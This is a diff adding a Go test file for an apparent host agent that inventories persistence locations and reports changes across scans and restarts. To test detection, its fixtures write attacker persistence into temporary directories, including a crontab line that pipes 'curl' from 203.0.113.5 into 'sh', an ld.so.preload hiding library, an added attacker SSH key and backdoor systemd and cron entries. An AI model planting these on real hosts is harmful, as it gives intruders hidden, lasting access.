@@ -0,0 +1,125 @@
+package persistence
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func writeFile(t *testing.T, root, name, content string) {
+	t.Helper()
+	path := filepath.Join(root, name)
+	require.NoError(t, os.MkdirAll(filepath.Dir(path), 0755))
+	require.NoError(t, os.WriteFile(path, []byte(content), 0644))
+}
+
+func newHost(t *testing.T) string {
+	t.Helper()
+	root := t.TempDir()
+	writeFile(t, root, "etc/crontab", "# system crontab\nSHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n")
+	writeFile(t, root, "etc/systemd/system/nginx.service", "[Service]\nExecStart=/usr/sbin/nginx\n")
+	writeFile(t, root, "home/alice/.bashrc", "alias ll='ls -l'\n")
+	writeFile(t, root, "home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAA alice@laptop\n")
+	writeFile(t, root, "home/alice/notes.txt", "not a persistence location\n")
+	return root
+}
+
+func changesByPath(changes []Change) map[string]Change {
+	byPath := make(map[string]Change, len(changes))
+	for _, change := range changes {
+		byPath[change.Path] = change
+	}
+	return byPath
+}
+
+func TestInventoryEntries(t *testing.T) {
+	inv := NewInventory(newHost(t), nil)
+
+	entries, changes, err := inv.Scan()
+	require.NoError(t, err)
+	assert.Empty(t, changes)
+	require.Len(t, entries, 4)
+	assert.Equal(t, "/etc/crontab", entries[0].Path)
+	assert.Equal(t, CategoryCron, entries[0].Category)
+	assert.Equal(t, []string{"SHELL=/bin/sh", "17 * * * * root run-parts /etc/cron.hourly"}, entries[0].Lines)
+	assert.Equal(t, CategorySystemd, entries[1].Category)
+	assert.Equal(t, CategoryShellProfile, entries[2].Category)
+	assert.Equal(t, CategoryAuthorizedKeys, entries[3].Category)
+}
+
+func TestInventoryChanges(t *testing.T) {
+	root := newHost(t)
+	inv := NewInventory(root, nil)
+	_, _, err := inv.Scan()
+	require.NoError(t, err)
+
+	writeFile(t, root, "etc/crontab", "SHELL=/bin/sh\n17 * * * * root run-parts /etc/cron.hourly\n* * * * * root curl -s http://203.0.113.5/x | sh\n")
+	writeFile(t, root, "etc/ld.so.preload", "/usr/lib/libhide.so\n")
+	writeFile(t, root, "home/alice/.ssh/authorized_keys", "ssh-ed25519 AAAA alice@laptop\nssh-rsa BBBB attacker\n")
+	// Comment-only edits are not changes
+	writeFile(t, root, "home/alice/.bashrc", "# my aliases\nalias ll='ls -l'\n")
+	// Enabling a unit adds a symlink in a .wants directory
+	wants := filepath.Join(root, "etc/systemd/system/multi-user.target.wants")
+	require.NoError(t, os.MkdirAll(wants, 0755))
+	require.NoError(t, os.Symlink("/etc/systemd/system/backdoor.service", filepath.Join(wants, "backdoor.service")))
+
+	_, changes, err := inv.Scan()
+	require.NoError(t, err)
+	byPath := changesByPath(changes)
+	require.Len(t, byPath, 4)
+
+	crontab := byPath["/etc/crontab"]
+	assert.Equal(t, ChangeChanged, crontab.Type)
+	assert.Equal(t, []string{"* * * * * root curl -s http://203.0.113.5/x | sh"}, crontab.AddedLines)
+	assert.Empty(t, crontab.RemovedLines)
+	assert.NotEqual(t, crontab.HashBefore, crontab.HashAfter)
+
+	preload := byPath["/etc/ld.so.preload"]
+	assert.Equal(t, ChangeAdded, preload.Type)
+	assert.Equal(t, CategoryLDPreload, preload.Category)
+	assert.Equal(t, []string{"/usr/lib/libhide.so"}, preload.AddedLines)
+
+	assert.Equal(t, []string{"ssh-rsa BBBB attacker"}, byPath["/home/alice/.ssh/authorized_keys"].AddedLines)
+
+	unit := byPath["/etc/systemd/system/multi-user.target.wants/backdoor.service"]
+	assert.Equal(t, CategorySystemd, unit.Category)
+	assert.Equal(t, []string{"-> /etc/systemd/system/backdoor.service"}, unit.AddedLines)
+
+	// Changes are only reported once
+	_, changes, err = inv.Scan()
+	require.NoError(t, err)
+	assert.Empty(t, changes)
+}
+
+func TestInventoryReportsChangesAcrossRestarts(t *testing.T) {
+	root := newHost(t)
+	storageDir := t.TempDir()
+
+	store, err := NewStore(storageDir)
+	require.NoError(t, err)
+	_, _, err = NewInventory(root, store).Scan()
+	require.NoError(t, err)
+	require.NoError(t, store.Close())
+
+	// Added and changed while the agent was stopped
+	writeFile(t, root, "etc/cron.d/backdoor", "* * * * * root /tmp/x\n")
+	writeFile(t, root, "etc/crontab", "SHELL=/bin/sh\n")
+
+	store, err = NewStore(storageDir)
+	require.NoError(t, err)
+	defer store.Close()
+	inv := NewInventory(root, store)
+	_, changes, err := inv.Scan()
+	require.NoError(t, err)
+	byPath := changesByPath(changes)
+	require.Len(t, byPath, 2)
+	assert.Equal(t, ChangeAdded, byPath["/etc/cron.d/backdoor"].Type)
+	assert.Equal(t, []string{"17 * * * * root run-parts /etc/cron.hourly"}, byPath["/etc/crontab"].RemovedLines)
+
+	_, changes, err = inv.Scan()
+	require.NoError(t, err)
+	assert.Empty(t, changes)
+}